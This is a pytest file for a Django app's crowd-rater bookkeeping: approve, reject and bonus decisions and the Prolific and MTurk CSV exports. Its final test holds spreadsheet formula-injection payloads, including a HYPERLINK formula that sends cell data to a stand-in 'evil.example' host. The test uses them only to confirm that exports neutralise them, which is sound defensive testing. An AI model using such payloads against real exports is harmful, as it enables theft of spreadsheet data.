"""Crowd bookkeeping (trials.crowd, issue 23): approve / reject with reason / review / bonus exports.

A simulated crowd of six raters with known outcomes, written directly (sessions, attention
checks and answers): each platform file must hold exactly the raters and amounts worked
out here.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import User
from django.http import QueryDict
from django.test import Client
from django.urls import reverse

from evalsite.models import Campaign
from evalsite.spreadsheet import FORMULA_STARTS, spreadsheet_safe
from trials import browser, crowd
from trials.models import FlagKind, Rater, RaterFlag, RatingSession, Response, SessionState, Trial, TrialKind

pytestmark = pytest.mark.django_db

# code -> (session state, attention checks answered correctly / answered, flag_reason, crowd params)
CROWD = {
    "ok-prolific": (SessionState.COMPLETE, (3, 3), "", {"PROLIFIC_PID": "5f00aa01"}),
    "ok-mturk": (SessionState.COMPLETE, (2, 3), "", {"workerId": "A1WORKER", "assignmentId": "3ASSIGN"}),
    "failed-checks": (
        SessionState.COMPLETE,
        (1, 3),
        "failed 2 attention checks",
        {"PROLIFIC_PID": "5f00aa03"},
    ),
    "shared-browser": (SessionState.COMPLETE, (3, 3), "", {"PROLIFIC_PID": "5f00aa04"}),
    "left-early": (SessionState.RUNNING, (1, 1), "", {"PROLIFIC_PID": "5f00aa05"}),
    "declined": (SessionState.DECLINED, (0, 0), "", {}),
}


@pytest.fixture
def crowd_campaign():
    campaign = Campaign.objects.create(name="Crowd", slug="crowd", bonus_per_correct_check=Decimal("0.25"))
    for code, (state, (correct, answered), reason, params) in CROWD.items():
        rater = Rater.objects.create(
            campaign=campaign,
            participant_code=code,
            platform_params=params,
            flagged=bool(reason),
            excluded=bool(reason),
            flag_reason=reason,
        )
        session = RatingSession.objects.create(rater=rater, campaign=campaign, state=state)
        for position in range(answered):
            trial = Trial.objects.create(
                session=session,
                position=position,
                kind=TrialKind.CATCH,
                task="action",
                correct_choice="talking",
            )
            right = position < correct
            Response.objects.create(
                trial=trial, choice="talking" if right else "eating", correct=right, response_time_ms=1200
            )
    RaterFlag.objects.create(
        rater=Rater.objects.get(participant_code="shared-browser"),
        kind=FlagKind.SHARED_BROWSER,
        reason="joined from the same browser as rater ok-prolific",
    )
    return campaign


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_decisions_follow_the_recorded_flags_and_the_bonus_rule(crowd_campaign):
    table = crowd.rater_decisions(crowd_campaign).set_index("participant_code")
    assert table["decision"].to_dict() == {
        "ok-prolific": "approve",
        "ok-mturk": "approve",
        "failed-checks": "reject",
        "shared-browser": "review",
        "left-early": "incomplete",
        "declined": "declined",
    }
    assert table.loc["failed-checks", "reason"] == "failed 2 attention checks"
    assert table.loc["shared-browser", "reason"] == (
        "shares a browser with other codes: joined from the same browser as rater ok-prolific"
    )
    assert table["attention_checks_correct"].to_dict()["ok-mturk"] == 2
    # 0.25 per correct check, approved raters only.
    assert table["bonus"].to_dict() == {
        "ok-prolific": Decimal("0.75"),
        "ok-mturk": Decimal("0.50"),
        "failed-checks": Decimal("0.00"),
        "shared-browser": Decimal("0.00"),
        "left-early": Decimal("0.00"),
        "declined": Decimal("0.00"),
    }


def test_each_platform_file_holds_exactly_its_raters(crowd_campaign):
    # Prolific approve: Prolific IDs, else the participant code (the MTurk rater has no PID).
    assert _rows(crowd.export(crowd_campaign, "prolific-approve")) == [["5f00aa01"], ["ok-mturk"]]
    assert _rows(crowd.export(crowd_campaign, "prolific-reject")) == [
        ["5f00aa03", "failed 2 attention checks"]
    ]
    assert _rows(crowd.export(crowd_campaign, "prolific-bonus")) == [
        ["5f00aa01", "0.75"],
        ["ok-mturk", "0.50"],
    ]
    assert _rows(crowd.export(crowd_campaign, "mturk")) == [
        ["AssignmentId", "WorkerId", "Approve", "Reject"],
        ["3ASSIGN", "A1WORKER", "x", ""],
    ]
    assert _rows(crowd.export(crowd_campaign, "mturk-bonus")) == [
        ["WorkerId", "AssignmentId", "BonusAmount", "Reason"],
        ["A1WORKER", "3ASSIGN", "0.50", "2 attention checks answered correctly"],
    ]
    decisions = list(csv.DictReader(io.StringIO(crowd.export(crowd_campaign, "decisions"))))
    assert [r["participant_code"] for r in decisions] == list(CROWD)
    with pytest.raises(
        ValueError, match="unknown crowd export format 'paypal'; one of: decisions, prolific-approve"
    ):
        crowd.export(crowd_campaign, "paypal")


def test_the_organizer_downloads_the_exports_and_no_one_else(crowd_campaign):
    organizer = User.objects.create_user("crowd-org", password="pw", is_staff=True)
    crowd_campaign.organizers.add(organizer)
    url = reverse("trials:organizer_crowd_export", args=[crowd_campaign.pk, "prolific-bonus"])
    client = Client()
    client.force_login(organizer)
    response = client.get(url)
    assert response.status_code == 200 and response.content.decode() == "5f00aa01,0.75\nok-mturk,0.50\n"
    assert response["Content-Disposition"] == 'attachment; filename="crowd-crowd-prolific-bonus.csv"'
    assert (
        client.get(reverse("trials:organizer_crowd_export", args=[crowd_campaign.pk, "paypal"])).status_code
        == 404
    )
    stranger = User.objects.create_user("stranger", password="pw", is_staff=True)
    client.force_login(stranger)
    assert client.get(url).status_code == 404


def test_crowd_ids_from_the_join_link_never_become_spreadsheet_formulas(crowd_campaign):
    # The join link's IDs are stored as the browser sent them (trials.browser.platform_params) ...
    query = QueryDict(
        "PROLIFIC_PID=%3DHYPERLINK(%22http://evil.example/%22%26A1,%22x%22)&workerId=@SUM(1%2B1)&assignmentId=%2B1-2"
    )
    params = browser.platform_params(query)
    assert params["PROLIFIC_PID"] == '=HYPERLINK("http://evil.example/"&A1,"x")'
    for code, extra in (("evil-prolific", {"PROLIFIC_PID": params["PROLIFIC_PID"]}), ("-1-2", {})):
        rater = Rater.objects.create(campaign=crowd_campaign, participant_code=code, platform_params=extra)
        RatingSession.objects.create(rater=rater, campaign=crowd_campaign, state=SessionState.COMPLETE)
    mturk = Rater.objects.create(
        campaign=crowd_campaign,
        participant_code="evil-mturk",
        platform_params={k: params[k] for k in ("workerId", "assignmentId")},
        flagged=True,
        flag_reason="failed 3 attention checks",
    )
    RatingSession.objects.create(rater=mturk, campaign=crowd_campaign, state=SessionState.COMPLETE)
    # ... and every export writes them as text a spreadsheet shows, never evaluates.
    assert _rows(crowd.export(crowd_campaign, "prolific-approve")) == [
        ["5f00aa01"],
        ["ok-mturk"],
        ['\'=HYPERLINK("http://evil.example/"&A1,"x")'],
        ["'-1-2"],
    ]
    assert _rows(crowd.export(crowd_campaign, "mturk"))[-1] == [
        "'+1-2",
        "'@SUM(1+1)",
        "",
        "failed 3 attention checks",
    ]
    decisions = _rows(crowd.export(crowd_campaign, "decisions"))
    cells = [cell for row in decisions for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    assert decisions[-1][:5] == [str(mturk.pk), "evil-mturk", "", "'@SUM(1+1)", "'+1-2"]
    # Amounts and ordinary IDs are unchanged.
    assert spreadsheet_safe("5f00aa01") == "5f00aa01" and spreadsheet_safe(Decimal("-1.5")) == Decimal("-1.5")
